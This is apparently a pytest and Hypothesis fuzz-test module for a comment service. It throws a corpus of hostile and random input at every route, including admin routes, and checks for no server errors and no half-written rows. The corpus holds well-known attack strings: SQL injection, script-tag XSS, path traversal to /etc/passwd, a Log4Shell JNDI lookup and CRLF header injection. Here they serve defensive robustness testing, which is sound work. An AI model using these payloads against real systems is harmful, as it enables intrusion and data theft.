"""Hostile and random input at every route: never a 500, never half a row."""

from __future__ import annotations

import contextlib
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from commentsvc.core.extensions import db

HOSTILE = [
    "",
    "\x00",
    "\x00\x01\x02\x1b[31m",
    "'; DROP TABLE comments; --",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "%00%ff%fe",
    "😀" * 50,
    "a" * 70_000,
    "https://news.example/" + "x" * 3000,
    "../../../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "\u202e\u2066",
    "-1",
    "99999999999999999999999999",
    "999999999999999999",
    "2147483648",
    "a1",
    "b1",
    "a2147483648",
    "b999999999999999999",
    "last",
    # Addresses urlsplit refuses, and line breaks no header can carry (found by fuzzing).
    "http://[::1",
    "https://x:99999/",
    "/admin/\r\nX-Evil: 1",
]
# What only JSON can carry: other types where text is expected, and lone surrogates.
JSON_ONLY = [5, 2.5, None, True, [], {}, ["a"], "x\ud800"]
FIELDS = [
    "url",
    "article",
    "title",
    "comment",
    "name",
    "email",
    "website",
    "parent_id",
    "token",
    "mine",
    "network",
    "page",
    "cursor",
    "replytocom",
    "parts",
    "origin",
    "username",
    "password",
    "csrf_token",
    "leave_empty",
]
CONTENT_TYPES = [
    "application/x-www-form-urlencoded",
    "application/json",
    "text/plain",
    "multipart/form-data; boundary=x",
    "application/xml",
    "",
]


def table_sizes() -> dict[str, int]:
    return {
        table.name: db.session.execute(db.select(db.func.count()).select_from(table)).scalar()
        for table in db.metadata.sorted_tables
    }


def concrete_paths(app, number: str = "1") -> list[tuple[str, str]]:
    """(method, path) for every route, with its placeholders filled in (ids with ``number``)."""
    out = []
    for rule in app.url_map.iter_rules():
        path = re.sub(r"<int(\([^)]*\))?:[^>]+>", number, rule.rule)
        path = path.replace("<path:filename>", "widget.js").replace("<network>", "facebook")
        path = re.sub(r"<[^>]+>", "x", path)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            out.append((method, path))
    return out


def test_every_id_placeholder_is_filled() -> None:
    rules = ["/a/<int:comment_id>/b", "/a/<int(max=2147483647):comment_id>/b"]
    for rule in rules:
        assert re.sub(r"<int(\([^)]*\))?:[^>]+>", "7", rule) == "/a/7/b"


def check(app, client, method: str, path: str, **kwargs) -> None:
    with app.app_context():
        before = table_sizes()
    response = client.open(path, method=method, **kwargs)
    status = response.status_code
    response.close()
    # Not even a 503: the database is up here, so a 503 would be a bug reported as an outage.
    assert status < 500, f"{method} {path} {kwargs!r:.300} answered {status}"
    if status >= 400:
        with app.app_context():
            after = table_sizes()
        # A refused write leaves nothing behind (failed sign-ins are kept on purpose).
        after.pop("sign_in_failures", None)
        before.pop("sign_in_failures", None)
        assert after == before, f"{method} {path} stored rows and answered {status}"


@pytest.mark.settings(RATELIMIT_ENABLED=False, FLOOD_SECONDS=0)
def test_hostile_corpus_at_every_route(app, client, config) -> None:
    routes = concrete_paths(app)
    assert len(routes) >= 10
    for method, path in routes:
        for value in HOSTILE:
            params = {field: value for field in FIELDS}
            check(app, client, method, path, query_string=params)
            if method != "GET":
                check(app, client, method, path, data=params)
                check(app, client, method, path, json=params)
                # HTTP cannot carry a line break inside a header.
                forwarded = value.replace("\r", "").replace("\n", "")
                check(
                    app, client, method, path, json=[value], headers={"X-Forwarded-For": forwarded}
                )
        if method != "GET":
            for value in JSON_ONLY:
                check(app, client, method, path, json={field: value for field in FIELDS})
                check(app, client, method, path, json=value)


@pytest.mark.parametrize("number", ["0", "2147483648", "99999999999999999999"])
def test_ids_in_paths_beyond_what_can_exist(app, client, config, number) -> None:
    for method, path in concrete_paths(app, number):
        check(app, client, method, path)


@pytest.mark.parametrize("host", ["a" * 64, "a..b", "[::1", "x:99999"])
def test_a_host_header_that_cannot_be_read(app, client, host) -> None:
    for method, path in concrete_paths(app):
        check(app, client, method, path, headers={"Host": host})


@pytest.mark.settings(RATELIMIT_ENABLED=False, FLOOD_SECONDS=0)
@given(
    route=st.integers(min_value=0, max_value=10_000),
    body=st.binary(max_size=2000),
    content_type=st.sampled_from(CONTENT_TYPES),
    query=st.dictionaries(st.sampled_from(FIELDS), st.text(max_size=200), max_size=6),
    agent=st.text(max_size=300),
)
@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
def test_random_bodies_headers_and_queries(
    app, client, config, route, body, content_type, query, agent
) -> None:
    routes = concrete_paths(app)
    method, path = routes[route % len(routes)]
    headers = {"Content-Type": content_type} if content_type else {}
    with contextlib.suppress(UnicodeEncodeError):
        # HTTP cannot carry a line break inside a header; anything else goes.
        headers["User-Agent"] = (
            agent.encode("latin-1").decode("latin-1").replace("\r", "").replace("\n", "")
        )
    check(app, client, method, path, query_string=query, data=body, headers=headers)


@pytest.mark.settings(RATELIMIT_ENABLED=False, FLOOD_SECONDS=0)
def test_hostile_corpus_at_every_admin_route_as_a_signed_in_moderator(
    app, client, reader, config
) -> None:
    from commentsvc.admin.auth import create_moderator

    with app.app_context():
        create_moderator("fuzz-mod", "a long enough password")
        db.session.commit()
    reader.post({"url": "https://news.example/a"})  # something for the actions to act on
    from commentsvc.admin.session import now

    with client.session_transaction() as session:
        # What signing in stores (commentsvc.admin.session.start_session).
        session.update(moderator_id=1, version=0, signed_in=now(), seen=now())
    queue = client.get("/admin/")
    assert queue.status_code == 200
    # A valid CSRF token, so the hostile values reach the views themselves.
    token = re.search(
        r'name="csrf_token"[^>]*?value="([^"]+)"', queue.get_data(as_text=True)
    ).group(1)
    routes = [
        (m, p) for m, p in concrete_paths(app) if p.startswith("/admin") and "sign-out" not in p
    ]
    for method, path in routes:
        for value in HOSTILE:
            params = {
                field: value
                for field in [
                    *FIELDS,
                    "q",
                    "status",
                    "ids",
                    "act",
                    "action",
                    "body",
                    "sort",
                    "next",
                ]
            }
            response = client.open(path, method=method, query_string=params)
            assert response.status_code < 500, (method, path, value[:40])
            if method == "POST":
                response = client.open(path, method=method, data={**params, "csrf_token": token})
                assert response.status_code < 500, (method, path, value[:40], "form")
    # Ids no row can have, in the paths, where the views themselves see them.
    for number in ("0", "2147483648", "99999999999999999999"):
        for method, path in concrete_paths(app, number):
            if path.startswith("/admin") and "sign-out" not in path:
                response = client.open(path, method=method, data={"csrf_token": token})
                assert response.status_code < 500, (method, path)
